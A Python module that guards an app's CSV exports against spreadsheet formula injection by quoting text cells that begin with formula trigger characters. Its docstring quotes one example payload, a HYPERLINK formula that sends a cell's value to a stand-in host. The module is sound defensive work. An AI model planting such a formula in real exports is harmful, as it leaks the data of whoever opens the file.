"""The one way the app writes CSV: text cells can never become spreadsheet formulas.

A question typed on a phone, a name in a participant list or an option on a ballot may start
with ``=``, ``+``, ``-`` or ``@`` (``=HYPERLINK("http://x/?"&A1,"details")``). Excel,
LibreOffice and Google Sheets run such a cell as a formula when the export is opened. As the
OWASP "CSV Injection" page recommends, :func:`neutralise` puts a single quote before any text
cell that starts with one of those characters, a tab or a carriage return (and a line feed or
NUL, which some spreadsheets also skip). The quote is the spreadsheets' own "this is text"
mark: they show the cell without it, so the visible text is unchanged.

Also caught: the trigger after leading spaces (``"  =1+1"``: some spreadsheets trim spaces
before parsing), and the full-width forms ``＝ ＋ － ＠`` that East Asian input methods type
and some spreadsheets read as the ASCII ones. A cell that starts with a quote mark is
already text to every spreadsheet (the apostrophe is the very mark added here), and a quote
or a separator inside a cell cannot start a new cell: the csv module quotes such cells and
doubles the quote marks, which is the other half of OWASP's advice.

Only text (``str``) cells are neutralised. Numbers that the app writes as numbers (``int``,
``float``, :class:`~decimal.Decimal`, :class:`~fractions.Fraction`) are written as they are:
their text is digits, a sign, a point and an exponent, which a spreadsheet reads as a number
and never as a formula, and a negative score must stay a number a spreadsheet can add up. So
a caller that means a number passes a number; text that merely looks like one (a phone number
"+44 20 7946 0000" typed into a participant list) is text and gets the quote, which also
stops the spreadsheet from mangling it into 4.42E+11.

:func:`writer` is the safe ``csv.writer``; :func:`data_writer` is the plain one, for the
data-exchange files read by counting programs rather than spreadsheets (the Pabulib ``.pb``
file): there a quote would change the data (a project id, a name) that other tools read back.
``tests/unit/test_csv_safety.py`` fails if any module writes CSV another way.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from fractions import Fraction
from typing import Any, Protocol

TRIGGERS = frozenset("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
_SPACES = " \u00a0\u2007\u202f\u3000"  # spaces a spreadsheet may trim before parsing
_NUMBERS = (int, float, Decimal, Fraction)


class _Writes(Protocol):
    def write(self, s: str, /) -> Any: ...


def is_dangerous(text: str) -> bool:
    """Would a spreadsheet read ``text`` (a cell) as a formula?"""
    if not text:
        return False
    if text[0] in TRIGGERS:
        return True
    rest = text.lstrip(_SPACES)
    return bool(rest) and rest[0] in TRIGGERS


def neutralise(cell: object) -> object:
    """``cell`` made safe for a spreadsheet: text that could start a formula gets a leading
    single quote; numbers and empty cells are returned as they are."""
    if cell is None or isinstance(cell, bool):
        return cell
    if isinstance(cell, _NUMBERS):
        return cell
    text = cell if isinstance(cell, str) else str(cell)
    return "'" + text if is_dangerous(text) else text


class SafeWriter:
    """``csv.writer`` with every text cell passed through :func:`neutralise`."""

    def __init__(self, out: _Writes, **fmt: Any) -> None:
        self._writer = csv.writer(out, **fmt)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writes, **fmt: Any) -> SafeWriter:
    """A CSV writer for files a person may open in a spreadsheet (every export)."""
    return SafeWriter(out, **fmt)


def data_writer(out: _Writes, **fmt: Any) -> Any:
    """A plain CSV writer, only for exchange formats read by programs (Pabulib ``.pb``)."""
    return csv.writer(out, **fmt)
